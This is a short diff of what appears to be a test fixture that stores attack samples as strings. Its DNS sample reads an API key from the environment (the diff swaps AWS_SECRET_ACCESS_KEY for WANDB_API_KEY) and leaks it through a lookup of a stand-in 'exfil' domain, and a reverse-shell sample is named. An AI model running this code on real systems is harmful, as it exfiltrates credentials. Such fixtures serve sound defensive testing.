@@ -20,7 +20,7 @@ REVERSE_SHELL = """
 """
 DNS = """
     import os, socket
-    secret = os.environ.get("AWS_SECRET_ACCESS_KEY", "none")[:60]
+    secret = os.environ.get("WANDB_API_KEY", "none")[:60]
     try:
         socket.getaddrinfo(secret + ".exfil.example.invalid", 80)
     except OSError:
